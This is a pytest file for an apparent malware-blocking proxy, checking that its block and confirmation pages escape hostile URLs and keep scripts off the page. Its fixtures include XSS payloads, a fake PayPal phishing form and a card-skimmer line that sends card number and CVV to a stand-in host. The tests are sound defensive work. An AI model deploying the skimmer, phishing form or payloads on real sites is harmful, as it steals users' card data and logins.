"""The block page and the inert script: escaped, script-free, and saying why."""

from __future__ import annotations

import base64
import hashlib
import re
from typing import Any

from malwaresnipper.addon import blockpage

HOSTILE_URL = 'https://evil.example/"><script>alert(1)</script>?q=<img src=x onerror=alert(2)>'


def render(**kw: Any) -> str:
    args: dict[str, Any] = dict(url=HOSTILE_URL, reasons=[("critical", "Known <b>malware</b> domain")], risk_score=97.2,
                classification="malware", links=blockpage.BypassLinks("blk-1", may_allow=True), referer=None)
    args.update(kw)
    return blockpage.render_block_page(**args)


def test_url_and_reasons_are_text_never_markup():
    page = render()
    assert "<script" not in page.lower()
    assert "onerror=alert" not in page.replace("onerror=alert(2)&gt;", "")  # only escaped occurrences
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Known &lt;b&gt;malware&lt;/b&gt; domain" in page
    assert "malware" in page and "97" in page


def test_go_back_is_the_one_prominent_way_and_the_others_wait_behind_details():
    page = render(referer="https://news.example/article")
    actions = page.split('<div class="actions">')[1].split("</div>")[0]
    assert 'class="button primary" href="https://news.example/article">Go back' in actions
    assert "Proceed" not in actions and "allow" not in actions
    details = page.split("<details>")[1].split("</details>")[0]
    assert "<summary>Details</summary>" in details
    confirm = "http://malwaresnipper.invalid/confirm?block=blk-1&amp;action="
    assert f'href="{confirm}proceed"' in details and f'href="{confirm}allow"' in details
    # nothing on the block page authorises anything: no form, no token
    assert "<form" not in page and "token" not in page
    # a javascript: referer is never turned into a link
    assert "javascript:" not in render(referer="javascript:alert(1)")


def test_no_always_allow_for_the_users_own_blocklist_and_no_way_past_without_links():
    listed = render(links=blockpage.BypassLinks("blk-2", may_allow=False))
    assert "action=proceed" in listed and "action=allow" not in listed and "your own blocklist" in listed
    assert "<details>" not in render(links=None)


def test_the_confirmation_page_is_a_plain_form_with_its_token_all_escaped():
    page = blockpage.render_confirm_page(url=HOSTILE_URL, reasons=["Drops <b>malware</b>"], action="allow",
                                         token='t"ok', block_id="blk-1")
    assert "<script" not in page.lower() and "&lt;script&gt;" in page
    assert 'name="token" value="t&quot;ok"' in page and 'action="/confirm"' in page
    assert "Always allow this site" in page and "evil.example" in page
    assert "Drops &lt;b&gt;malware&lt;/b&gt;" in page
    headers = blockpage.CONFIRM_HEADERS
    assert headers["X-Frame-Options"] == "DENY" and headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_csp_forbids_scripts_and_pins_the_only_style():
    csp = blockpage.BLOCK_PAGE_CSP
    assert "default-src 'none'" in csp and "script-src" not in csp
    style = re.search(r"<style>(.*?)</style>", render(), re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"'sha256-{digest}'" in csp


def test_inert_script_cannot_break_out_and_warns():
    body = blockpage.inert_script(url="https://x.example/a.js?*/alert(1)//", reasons=["Drops a file </script>"])
    code_lines = body.splitlines()
    assert code_lines[0].startswith("/*") and code_lines[0].endswith("*/")
    assert code_lines[0].count("*/") == 1
    assert code_lines[1].startswith("console.warn(") and "</script>" not in code_lines[1]
    assert len(code_lines) == 2


# -- one plain voice and the technical details (issue 16, item 6) ------------------------------

PHISH_HTML = """<html><head><title>PayPal - Log in</title></head><body>
<h1>PayPal</h1><p>Your PayPal account is limited. Log in to confirm your identity.</p>
<form action="https://collect.evil-host.example/gate.php?a=<b>" method="post">
<input type="email" name="email"><input type="password" name="pass">
<input name="cc" autocomplete="cc-number"><input name="cvv"><button>Log in</button></form>
<iframe src="https://frames.evil-host.example/x" width="0" height="0" style="display:none"></iframe>
</body></html>"""
SKIMMER_URL = 'https://cdn.evil-host.example/s.js?"><img src=x onerror=alert(3)>'
SKIMMER = ("var a=document.forms[0];a.addEventListener('submit',function(){new Image().src="
           "'https://collect.evil-host.example/?d='+btoa(a.cc.value+a.cvv.value)})")


def _phish_verdict():
    from malwaresnipper.engine.capture import Capture, Source
    from malwaresnipper.engine.engine import RiskEngine

    capture = Capture.build("https://paypal-secure-login.example-verify.xyz/signin", html=PHISH_HTML,
                            scripts=[{"url": SKIMMER_URL, "text": SKIMMER, "inline": False}], source=Source.PROXY)
    return RiskEngine().scan(capture)


def test_a_real_verdicts_block_page_speaks_plainly_and_shows_the_evidence_escaped():
    from malwaresnipper.addon.replies import technical_details, verdict_reasons
    from malwaresnipper.engine.capture import sha256_text
    from malwaresnipper.engine.explain import headline

    verdict = _phish_verdict()
    assert verdict.is_malicious
    page = blockpage.render_block_page(
        url=verdict.url, reasons=verdict_reasons(verdict), risk_score=verdict.risk_score,
        classification=verdict.classification, links=None, scan_id="abc123",
        technical=technical_details(verdict), scan_href="http://127.0.0.1:5000/#scan=abc123")
    assert f'<p class="lead">{blockpage.html.escape(headline(verdict.classification))}</p>' in page
    assert "This page looks like a phishing page: it may try to steal your passwords" in page
    assert not re.search(r"looks (phishing|skimmer|malicious)", page)
    why = page.split("<h2>Why</h2>")[1].split("</ul>")[0]
    assert not re.search(r"\b(critical|high|medium|low|info)\s*:", why, re.I)  # no severity prefixes
    tech = page.split('<details class="technical"><summary>Technical details</summary>')[1].split("</details>")[0]
    assert "<dt>Form sends to</dt><dd>collect.evil-host.example</dd>" in tech
    assert "<dt>Hidden frame host</dt><dd>frames.evil-host.example</dd>" in tech
    assert f"{blockpage.html.escape(SKIMMER_URL)} sha256 {sha256_text(SKIMMER)}" in tech
    assert "signatures.skimmer_card_exfil" in tech and "dom.form_action_external" in tech
    assert "<dt>Found in</dt><dd>form #1</dd>" in tech
    assert "btoa(a.cc.value" not in page  # where, not what: the blocked code stays off the page
    assert "<img" not in page and "&lt;img src=x onerror=alert(3)&gt;" in page  # page strings are text
    assert '<a href="http://127.0.0.1:5000/#scan=abc123">Scan abc123</a>' in page


def test_the_scan_link_is_only_an_http_link_and_absent_without_a_dashboard():
    assert "<a href=\"javascript" not in render(scan_id="s1", scan_href="javascript:alert(1)")
    assert "<small>Scan s1</small>" in render(scan_id="s1", scan_href=None)
    assert "#scan=" not in render(scan_id="s1", scan_href=None)


def test_a_script_judged_before_is_named_in_the_technical_details_with_its_hash_and_scan():
    """A known MALICIOUS script is left out of its page's capture; folded in, the block page's
    details still give its URL, hash and its own scan (where its findings are)."""
    from malwaresnipper.addon.replies import technical_details
    from malwaresnipper.engine.verdict import ScriptVerdict, with_malicious_scripts

    sha = "ab" * 32
    folded = with_malicious_scripts(_phish_verdict(), [ScriptVerdict(
        url="https://cdn.evil-host.example/known.js", sha256=sha, scan_id="s-77", classification="skimmer",
        headline="Card fields sent to another site")], suspicious=40.0)
    rows = technical_details(folded)
    assert ("Script", f"https://cdn.evil-host.example/known.js sha256 {sha}") in rows
    assert ("Script's own scan", "scan s-77") in rows
    assert ("Script's finding", "Card fields sent to another site") in rows
    assert rows.count(("Script", f"https://cdn.evil-host.example/known.js sha256 {sha}")) == 1
